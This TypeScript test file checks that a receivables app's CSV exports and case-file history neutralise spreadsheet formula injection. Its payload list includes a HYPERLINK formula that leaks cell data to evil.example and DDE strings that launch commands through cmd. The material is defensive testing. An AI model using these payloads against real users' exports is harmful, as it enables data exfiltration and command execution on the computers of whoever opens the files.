/**
 * Formula injection in the CSV exports, over HTTP on the local stack: names, numbers, assignees and reasons that
 * start with `=`, `+`, `-`, `@`, a tab or a carriage return reach every CSV the app serves — each page route the app
 * lists is asked for `?format=csv`, plus the receivables export and the collection case file's history — and no
 * cell of any of them starts with one of those characters (a spreadsheet would run it), bar plain numbers.
 */
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { portalCsrfToken } from '#shared/web/portal/routes.ts';
import { notif, slInvoice } from '../connectors/sellsy-fixtures.ts';
import { type Json, SELLSY_SECRET, type SecureStack, startSecureStack } from './support/stack.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
  "+33 cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
];
const DANGEROUS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** `;`-separated, `"`-quoted (doubled inside), CRLF rows, a UTF-8 BOM first: the cells as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\ufeff/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i] as string;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

function expectNeutral(csv: string, where: string) {
  const rows = parseCsv(csv);
  expect(rows.length, where).toBeGreaterThan(0);
  for (const [r, row] of rows.entries()) {
    for (const [c, cell] of row.entries()) {
      if (NUMBER.test(cell)) continue;
      expect(cell, `${where} row ${r} column ${c}`).not.toMatch(DANGEROUS);
    }
  }
}

describe('CSV exports and formula injection', () => {
  let s: SecureStack;
  let session: string;
  let first: Awaited<ReturnType<SecureStack['seed']>>;

  beforeAll(async () => {
    s = await startSecureStack();
    // Through the API (whose text fields are trimmed: the tab and CR cases arrive as "=…"). The first customer
    // gets every kind of record (a task, a document, a bank line); the others an invoice each.
    first = await s.seed({
      key: 'csv0',
      number: (FORMULAS[0] as string).trim(),
      customer: { name: FORMULAS[0], contactName: FORMULAS[0], email: 'compta0@csv.example' },
      counterparty: FORMULAS[0],
      fileName: `${FORMULAS[0]}.pdf`,
    });
    await s.json(`/api/tasks/${first.taskId}/assign`, { method: 'POST', json: { assignee: FORMULAS[1] } });
    for (const [i, name] of FORMULAS.entries()) {
      if (i === 0) continue;
      await s.recordInvoice({
        externalId: `csv${i}`,
        number: name.trim(),
        customer: { externalId: `CSV-${i}`, name, contactName: name, email: `compta${i}@csv.example` },
      });
    }
    // Through Sellsy, whose fields we keep as sent: a number starting with a tab and one with a CR.
    for (const [i, number] of ['\t=3+3', '\r@SUM(4)', '-cmd'].entries()) {
      const id = 7200 + i;
      s.sellsy.state.invoices.set(String(id), slInvoice(s.fake.url, { id, number }));
      const res = await s.request(`/webhooks/sellsy/${SELLSY_SECRET}`, {
        method: 'POST',
        authorization: null,
        form: { notif: JSON.stringify(notif('invoice', String(id), 'created', 1_795_420_200 + i)) },
      });
      expect(res.status).toBe(200);
    }
    // A debtor's reason through the portal, for the case file's history.
    const token = s.portalToken(first.customerId);
    const res = await s.request(`/portal/${token}/dispute`, {
      method: 'POST',
      authorization: null,
      form: {
        _csrf: portalCsrfToken(s.portalSecret, token),
        invoiceId: first.invoice.id,
        reason: FORMULAS[0] as string,
      },
    });
    expect(res.status).toBe(303);
    await s.stack.queue.drain();
    session = await s.login();
  });
  afterAll(async () => {
    await s?.close();
  });

  it('neutralises every cell of every CSV export the app serves', async () => {
    const paths = new Set<string>(['/exports/receivables.csv']);
    for (const r of s.stack.app.routes) {
      if (r.method !== 'GET' || r.path.includes(':') || r.path.includes('*')) continue;
      if (r.path.startsWith('/api/') || r.path.startsWith('/dev/')) continue;
      paths.add(`${r.path}?format=csv`);
      paths.add(`${r.path}?format=csv&customerId=${first.customerId}`);
      paths.add(`${r.path}?format=csv&status=all`);
    }
    const served = new Map<string, string>();
    for (const path of paths) {
      const res = await s.request(path, { authorization: null, cookie: session });
      if (res.status !== 200 || !(res.headers.get('content-type') ?? '').startsWith('text/csv')) continue;
      expect(res.headers.get('content-disposition'), path).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
      served.set(path, await res.text());
    }
    const routes = new Set([...served.keys()].map((p) => p.split('?')[0]));
    for (const expected of ['/exports/receivables.csv', '/customers', '/invoices', '/reminders', '/tasks']) {
      expect(routes, expected).toContain(expected);
    }
    for (const [path, csv] of served) expectNeutral(csv, path);

    // The names did reach the files, as text.
    const all = [...served.values()].join('\n');
    expect(all).toContain(`'=HYPERLINK(`);
    expect(all).toContain(`'+33 cmd|`);
    expect(all).toContain(`'-2+3+cmd|`);
    expect(all).toContain(`'@SUM(1+9)`);
    // Sellsy's numbers as sent: the tab and the CR kept behind the quote, or trimmed away before it.
    expect(all).toMatch(/'\t=3\+3|'=3\+3/);
    expect(all).toMatch(/'\r@SUM\(4\)|'@SUM\(4\)/);
    expect(all).toContain(`'-cmd`);
  });

  it('neutralises the history in the collection case file', async () => {
    const res = await s.request(`/api/customers/${first.customerId}/case-file`);
    expect(res.status).toBe(200);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const history = new TextDecoder().decode(files['historique.csv']);
    expectNeutral(history, 'historique.csv');
    expect(history).toContain(`'=HYPERLINK(`);
  });

  it('also neutralises numbers that only look like numbers, and keeps real amounts as numbers', async () => {
    const csv = await (await s.request('/exports/receivables.csv', { authorization: null, cookie: session })).text();
    const rows = parseCsv(csv);
    const header = rows[0] as string[];
    const amount = header.indexOf('montant');
    expect(amount).toBeGreaterThan(-1);
    for (const row of rows.slice(1)) expect(row[amount], 'montant').toMatch(NUMBER);
    const numbers = rows.slice(1).map((r) => r[header.indexOf('numero')] as string);
    expect(numbers.find((n) => n.includes('3+3'))).toMatch(/^'/);
    const sellsy = (await s.json('/api/invoices?status=all&limit=1000')).items.filter(
      (i: Json) => i.source === 'sellsy',
    );
    expect(sellsy.length).toBe(3);
  });
});
